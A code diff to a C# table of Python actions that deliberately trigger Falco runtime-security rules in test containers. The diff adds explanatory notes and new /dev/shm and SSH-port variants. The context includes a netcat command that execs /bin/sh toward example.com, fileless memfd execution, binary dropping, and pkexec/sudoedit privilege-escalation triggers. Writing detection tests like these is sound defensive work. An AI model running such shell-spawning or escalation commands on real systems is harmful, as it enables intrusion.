@@ -61,6 +61,15 @@ public static class EventGeneratorActions
 
         """;
 
+    /// <summary>
+    /// Actions that switch users as the generator's runAsUser or SpawnAs does (a root process not named in Falco's
+    /// setuid lists calls setuid to a user the container's /etc/passwd names) fire "Non sudo setuid" in Falco too:
+    /// libsinsp evaluates the setuid exit event with the thread's user already changed to the new one (libs'
+    /// test <c>sinsp_with_test_input.setuid_setgid</c>: user.uid is 0 at the entry event and 500 at the exit), so
+    /// <c>not (user.name=root or user.uid=0)</c> holds.
+    /// </summary>
+    private static readonly string[] SwitchesUser = ["Non sudo setuid"];
+
     private static EventGeneratorAction Py(string name, string rule, string code, Place place = Place.Container) =>
         new(name, rule, place) { Script = PythonPrelude + code };
 
@@ -87,7 +96,7 @@ public static class EventGeneratorActions
             """),
         Py("SystemUserInteractive", "System user interactive", RunAsUser + """
             run_as_user(1, 1, ["/bin/login"])  # daemon
-            """),
+            """) with { AlsoFalco = SwitchesUser },
         Py("NetcatRemoteCodeExecutionInContainer", "Netcat Remote Code Execution in Container", """
             subprocess.run(["timeout", "1s", shutil.which("nc"), "-e", "/bin/sh", "example.com", "22"])
             """),
@@ -166,7 +175,23 @@ public static class EventGeneratorActions
             subprocess.run(["chmod", "+x", path])
             subprocess.run([path])
             os.remove(path)
-            """) with { PodmanOptions = ["--tmpfs", "/dev/shm:rw,exec,nosuid,nodev,mode=1777"], Note = "podman mounts /dev/shm noexec (the exec fails and Falco fires nothing): this container has an exec /dev/shm, as the hosts the rule guards do" },
+            """) with
+            {
+                PodmanOptions = ["--tmpfs", "/dev/shm:rw,exec,nosuid,nodev,mode=1777"],
+                FalcoFires = null,
+                Note = "podman mounts /dev/shm noexec (the exec fails): this container has an exec /dev/shm, as the hosts the rule guards do. "
+                    + "Falco fires nothing even then: the script runs as `/bin/bash /dev/shm/example_script-….sh`, so proc.exe (argv[0]) is /bin/bash, "
+                    + "and the kernel names the task after the script (comm `example_script-`), so proc.name is not a shell and the "
+                    + "`shell_procs and proc.args startswith \"/dev/shm\"` branch fails too (an ELF run from /dev/shm would match proc.exe)",
+            },
+        // Not an action of the generator: the same rule's proc.exe branch, which the action above cannot reach.
+        Py("ExecutionFromDevShmElfVariant", "Execution from /dev/shm", """
+            path = "/dev/shm/falco-event-generator-variant-true"
+            shutil.copy(shutil.which("true"), path)
+            os.chmod(path, 0o755)
+            subprocess.run([path])
+            os.remove(path)
+            """) with { PodmanOptions = ["--tmpfs", "/dev/shm:rw,exec,nosuid,nodev,mode=1777"], Note = "ours, not the generator's: an ELF copied into /dev/shm and run, the rule's `proc.exe startswith \"/dev/shm/\"` branch" },
         Py("DropAndExecuteNewBinaryInContainer", "Drop and execute new binary in container", """
             content = open(shutil.which("ls"), "rb").read()
             path = "/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-x7Kq2Z"
@@ -178,8 +203,20 @@ public static class EventGeneratorActions
         Py("DisallowedSSHConnectionNonStandardPort", "Disallowed SSH Connection Non Standard Port", """
             try: subprocess.run(["/usr/bin/ssh", "-o", "ConnectTimeout=2", "-p", "2222", "203.0.113.1"], stdin=subprocess.DEVNULL, timeout=10)
             except subprocess.TimeoutExpired: pass
-            """) with { Note = "example.com does not resolve here, and a blocking connect to an unreachable address never returns (Falco sees no result): "
-                + "203.0.113.1 (TEST-NET-3: not loopback, not RFC 1918, which `outbound` excludes) with ConnectTimeout, whose non-blocking connect returns EINPROGRESS" },
+            """) with
+            {
+                FalcoFires = null,
+                Note = "Falco fires nothing: the Go code connects to port 2222, which is not in the rule's ssh_non_standard_ports "
+                    + "(80, 8080, 88, 443, 8443, 53, 4444; the macro tests fd.sport). example.com does not resolve here, and a blocking "
+                    + "connect to an unreachable address never returns: 203.0.113.1 (TEST-NET-3: not loopback, not RFC 1918, which "
+                    + "`outbound` excludes) with ConnectTimeout, whose non-blocking connect returns EINPROGRESS. "
+                    + "DisallowedSSHConnectionPort443Variant below is the same connection on a port of that list",
+            },
+        // Not an action of the generator: the action above on a port of the rule's list.
+        Py("DisallowedSSHConnectionPort443Variant", "Disallowed SSH Connection Non Standard Port", """
+            try: subprocess.run(["/usr/bin/ssh", "-o", "ConnectTimeout=2", "-p", "443", "203.0.113.1"], stdin=subprocess.DEVNULL, timeout=10)
+            except subprocess.TimeoutExpired: pass
+            """) with { Note = "ours, not the generator's: the generator's connection on port 443, one of ssh_non_standard_ports" },
         Py("FilelessExecutionViaMemfdCreate", "Fileless execution via memfd_create", """
             data = open(sys.executable, "rb").read()
             fd = os.memfd_create("program", 0)
@@ -339,13 +376,13 @@ public static class EventGeneratorActions
             """),
         Py("SudoPotentialPrivilegeEscalation", "Sudo Potential Privilege Escalation", RunAsUser + """
             run_as_user(1, 1, ["sudoedit", "-u", "daemon", "-s", "ls\\"])
-            """),
+            """) with { AlsoFalco = SwitchesUser },
         Py("UnprivilegedDelegationofPageFaultsHandlingtoaUserspaceProcess", "Unprivileged Delegation of Page Faults Handling to a Userspace Process", SpawnAs + """
             spawn_as("child", "import ctypes; libc = ctypes.CDLL(None); libc.syscall(105, 1); libc.syscall(323, 0)")  # setuid(daemon), userfaultfd(0)
-            """),
+            """) with { AlsoFalco = SwitchesUser },
         Py("PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034", "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", RunAsUser + """
             run_as_user(1, 1, ["pkexec"])
-            """),
+            """) with { AlsoFalco = SwitchesUser },
         Py("DecodingPayloadInContainer", "Decoding Payload in Container", """
             subprocess.run(["base64", "-d"], input=b"aGVsbG8K", stdout=subprocess.DEVNULL)
             """) with { Note = "the Go code builds `base64 -d` and never runs it (a bug); this runs it, as the action means to" },
